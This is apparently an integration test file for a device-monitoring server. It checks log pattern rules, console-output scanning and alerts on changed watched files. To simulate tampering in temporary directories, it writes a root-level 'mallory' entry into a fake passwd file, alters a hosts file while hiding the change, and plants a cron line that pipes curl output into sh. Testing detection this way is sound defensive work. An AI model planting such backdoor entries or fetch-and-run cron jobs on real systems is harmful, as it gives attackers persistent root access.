// Pattern rules and the changed-file watch end to end: a rule saved on the server reaches a real agent in a
// signed config, fires on a new line of a log file, and the match is stored, pushed live and notified with a
// link to the line; a flood is folded without losing its count. Console output is scanned by
// scanConsoleOutput (called directly on a test database). Watched files report size, content, removal and
// appearance with before and after.
import fs from 'node:fs';
import path from 'node:path';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { dbKinds, freshPostgres, openTestDb } from '../helpers/db';
import { ADMIN_PASSWORD, signIn, startServer, trpcCall, type RunningServer } from '../helpers/server';
import {
	buildAgent,
	enrollWithNewToken,
	startAgent,
	tempDir,
	until,
	type RunningAgent
} from '../helpers/agents';
import { connectDesktop } from '../helpers/socket';
import {
	deviceGroupMembers,
	deviceGroups,
	devices,
	logEvents,
	logRules,
	notifications,
	roles,
	userRoles,
	users
} from '../../src/server/db/schema';
import { scanConsoleOutput } from '../../src/server/logs/patterns';
import type { LogDeviceView, LogEventView } from '../../src/lib/protocol/logs';

describe.each(await dbKinds())('pattern rules and watched files on %s', (kind) => {
	let pgdb: Awaited<ReturnType<typeof freshPostgres>> | null = null;
	let server: RunningServer;
	let cookie: string;
	let agent: RunningAgent;
	let deviceId: number;
	let groupId: number;
	let logDir: string;
	let watchDir: string;

	const call = async <T>(p: string, input?: unknown, type: 'query' | 'mutation' = 'query') => {
		const r = await trpcCall(server.url, cookie, p, input, type);
		if (r.status !== 200) throw new Error(`${p}: ${r.status} ${JSON.stringify(r.body)}`);
		return r.body.result!.data as T;
	};
	const events = (input: object = {}) => call<LogEventView[]>('logs.events.list', { deviceId, ...input });

	beforeAll(async () => {
		buildAgent();
		pgdb = kind === 'postgres' ? await freshPostgres() : null;
		server = await startServer(pgdb ? { DATABASE_URL: pgdb.url } : {});
		cookie = await signIn(server.url, 'admin', ADMIN_PASSWORD);
		groupId = (await call<{ id: number }>('groups.create', { name: 'watched' }, 'mutation')).id;
		const { dir, agentId } = await enrollWithNewToken(server, cookie, groupId);
		logDir = tempDir('fd-rules-');
		watchDir = tempDir('fd-watch-');
		fs.writeFileSync(path.join(logDir, 'auth.log'), 'sshd[1]: Server listening\n');
		agent = startAgent(dir, {
			reconnect: { baseMs: 200, capMs: 1500 },
			tasks: { allow: ['inventory', 'show', 'logs-open', 'logs-config'] },
			logs: [`${logDir}/*.log`],
			filesModule: { journal: false, watchSeconds: 1, tailMs: 200 }
		});
		deviceId = (
			await until(async () =>
				(await call<LogDeviceView[]>('logs.devices')).find((d) => d.agentId === agentId && d.online)
			)
		).deviceId;
	});
	afterAll(async () => {
		await agent?.stop();
		await server?.stop();
		await pgdb?.drop();
		for (const d of [logDir, watchDir]) if (d) fs.rmSync(d, { recursive: true, force: true });
	});

	it('fires a rule on a new line of a log file: stored, live, notified, a flood folded and counted', async () => {
		const desktop = await connectDesktop(server.url, cookie);
		const live: LogEventView[] = [];
		const toasts: { title: string; link: string | null }[] = [];
		desktop.on('logs:event', (e: LogEventView) => live.push(e));
		desktop.on('notification', (n: { title: string; link: string | null }) => toasts.push(n));
		try {
			await call(
				'logs.rules.create',
				{ groupId, name: 'Failed password', pattern: 'Failed password for (\\S+)', severity: 'error' },
				'mutation'
			);
			const auth = path.join(logDir, 'auth.log');
			// The agent gets the rule in a signed config and follows the file from then on: write until it fires.
			let written = 0;
			const first = await until(async () => {
				fs.appendFileSync(auth, `sshd[7]: Failed password for root from 10.0.0.${++written}\n`);
				await new Promise((r) => setTimeout(r, 300));
				return (await events({ kind: 'pattern' }))[0];
			}, 30_000);
			expect(first).toMatchObject({ ruleName: 'Failed password', severity: 'error', deviceId });
			expect(first.line).toMatch(/^sshd\[7\]: Failed password for root from 10\.0\.0\.\d+$/);
			expect(first.source).toMatchObject({ type: 'file', path: auth });
			const offset = (first.source as { offset: number }).offset;
			expect(fs.readFileSync(auth).subarray(offset).toString().startsWith(first.line)).toBe(true);
			const q = { app: 'logs', device: `${deviceId}`, path: auth, offset: `${offset}`, event: `${first.id}` };
			expect(first.link).toBe(`/?${new URLSearchParams(q)}`);
			await until(async () => toasts.find((t) => t.link === first.link));
			expect(toasts.find((t) => t.link === first.link)!.title).toBe(`Failed password on ${first.deviceName}`);
			await until(async () => live.some((e) => e.id === first.id));

			// Matches folded on the agent arrive within its 5 s window; then the count stands still.
			const total = () => events({ kind: 'pattern' }).then((l) => l.reduce((n, e) => n + e.count, 0));
			await new Promise((r) => setTimeout(r, 6000));
			const base = await total();
			expect(base).toBeGreaterThanOrEqual(1);
			expect(base).toBeLessThanOrEqual(written);

			// A flood: 500 matching lines at once make no new event within the minute, only a higher count.
			const flood = Array.from(
				{ length: 500 },
				(_, i) => `sshd[9]: Failed password for bob${i} from 10.1.0.1`
			);
			fs.appendFileSync(auth, flood.join('\n') + '\n');
			await until(async () => (await total()) >= base + 500, 20_000);
			await new Promise((r) => setTimeout(r, 1500));
			expect(await total()).toBe(base + 500);
			const all = await events({ kind: 'pattern' });
			expect(all.length).toBeLessThanOrEqual(2);
			expect(all[0].lastLine).toBe(flood[499]);
			expect(toasts.filter((t) => t.title.startsWith('Failed password')).length).toBe(all.length);

			const acked = await call<{ acked: number }>(
				'logs.events.ack',
				{ ids: all.map((e) => e.id) },
				'mutation'
			);
			expect(acked.acked).toBe(all.length);
			expect(await events({ unacked: true, kind: 'pattern' })).toEqual([]);
		} finally {
			desktop.close();
		}
	});

	it('runs rules on console output, line-buffered, escape sequences stripped, floods counted', async () => {
		const db = await openTestDb(kind);
		try {
			const [dev] = await db.db.insert(devices).values({ name: 'console-host' }).returning();
			// a Viewer (logs.read on all devices, as seeded) is told; a user without a role is not
			const [viewer] = await db.db.insert(users).values({ username: 'vera', passwordHash: 'x' }).returning();
			await db.db.insert(users).values({ username: 'nobody', passwordHash: 'x' });
			const [role] = await db.db.select().from(roles).where(eq(roles.name, 'Viewer'));
			await db.db.insert(userRoles).values({ userId: viewer.id, roleId: role.id });
			const [g] = await db.db.insert(deviceGroups).values({ name: 'consoles' }).returning();
			await db.db.insert(deviceGroupMembers).values({ groupId: g.id, deviceId: dev.id });
			const [rule] = await db.db
				.insert(logRules)
				.values({
					groupId: g.id,
					name: 'Kernel panic',
					pattern: 'kernel panic',
					ignoreCase: true,
					severity: 'critical',
					createdBy: 't'
				})
				.returning();
			const send = (s: string) =>
				scanConsoleOutput(db.db, { consoleId: 77, deviceId: dev.id, at: new Date(), data: Buffer.from(s) });
			send('booting...\r\n\x1b[31mKernel pa');
			send('nic - not syncing\x1b[0m: VFS\r\nok\r\n');
			const ev = await until(
				async () => (await db.db.select().from(logEvents).where(eq(logEvents.ruleId, rule.id)))[0]
			);
			expect(ev).toMatchObject({
				kind: 'pattern',
				deviceId: dev.id,
				severity: 'critical',
				line: 'Kernel panic - not syncing: VFS',
				source: { type: 'console', consoleId: 77 }
			});
			for (let i = 0; i < 1000; i++) send(`kernel panic ${i}\n`);
			const folded = await until(async () => {
				const rows = await db.db.select().from(logEvents).where(eq(logEvents.ruleId, rule.id));
				const n = rows.reduce((s, r) => s + r.count, 0);
				return n === 1001 ? rows : null;
			}, 10_000);
			expect(folded).toHaveLength(1);
			expect(folded[0].lastLine).toBe('kernel panic 999');
			// one notification (the flood folded into the same event), to the reader, linking to the console's log
			const notes = await until(async () => {
				const n = await db.db.select().from(notifications).where(eq(notifications.createdBy, 'logs'));
				return n.length ? n : null;
			});
			expect(notes.map((n) => [n.audienceType, n.audienceId])).toEqual([['user', viewer.id]]);
			const q = { app: 'logs', console: '77', at: ev.at.toISOString(), event: `${ev.id}` };
			expect(notes[0].link).toBe(`/?${new URLSearchParams(q)}`);
		} finally {
			await db.dispose();
		}
	});

	it('reports changed, removed and new watched files with before and after', async () => {
		const passwd = path.join(watchDir, 'passwd');
		const hosts = path.join(watchDir, 'hosts');
		const cron = path.join(watchDir, 'cron.d');
		fs.writeFileSync(passwd, 'root:x:0:0::/root:/bin/sh\n');
		fs.writeFileSync(hosts, '127.0.0.1 localhost\n');
		fs.mkdirSync(cron);
		fs.writeFileSync(path.join(cron, 'backup'), '0 3 * * * root /bin/true\n');
		const list = await call<{ groups: { groupId: number; paths: string[] | null }[] }>(
			'logs.watch.set',
			{ groupId, paths: [passwd, hosts, `${cron}/*`] },
			'mutation'
		);
		expect(list.groups.find((g) => g.groupId === groupId)!.paths).toEqual(
			[passwd, hosts, `${cron}/*`].sort()
		);
		// the agent takes the new list in a signed task and looks once (the baseline) before anything changes
		await until(
			async () =>
				(
					await call<{ kind: string; state: string; args: { watch: string[] } }[]>('tasks.list', { deviceId })
				).find((t) => t.kind === 'logs-config' && t.state === 'succeeded' && t.args.watch.includes(passwd)),
			20_000
		);
		await new Promise((r) => setTimeout(r, 2500));
		const changeOf = (p: string) => async () =>
			(await events({ kind: 'file-change' })).find((e) => e.change?.path === p);

		fs.appendFileSync(passwd, 'mallory:x:0:0::/root:/bin/sh\n');
		const grown = await until(changeOf(passwd), 15_000);
		expect(grown.change!.changed).toEqual(expect.arrayContaining(['size', 'sha256', 'mtime']));
		expect(grown.change!.after.size).toBeGreaterThan(grown.change!.before!.size!);
		expect(grown.change!.before!.sha256).toMatch(/^[0-9a-f]{64}$/);
		expect(grown.change!.after.sha256).not.toBe(grown.change!.before!.sha256);

		// same size, mtime put back: the content hash still gives it away
		const st = fs.statSync(hosts);
		fs.writeFileSync(hosts, '10.6.6.6  localhost\n');
		expect(fs.statSync(hosts).size).toBe(st.size);
		fs.utimesSync(hosts, st.atime, st.mtime);
		const edited = await until(changeOf(hosts), 15_000);
		expect(edited.change!.changed).toEqual(['sha256']);

		fs.writeFileSync(path.join(cron, 'evil'), '* * * * * root curl x | sh\n');
		const appeared = await until(changeOf(path.join(cron, 'evil')), 15_000);
		expect(appeared.change!.before).toBeNull();
		expect(appeared.change!.after.exists).toBe(true);

		fs.rmSync(passwd);
		const removed = await until(async () => {
			const e = await changeOf(passwd)();
			return e && !e.change!.after.exists ? e : null;
		}, 15_000);
		expect(removed.severity).toBe('error');
		expect(removed.change!.changed).toContain('exists');
		const notes = await call<{ title: string; link: string | null }[]>('desktop.notifications');
		expect(notes.some((n) => n.title.startsWith('Watched file changed') && n.link === grown.link)).toBe(true);
	});
});
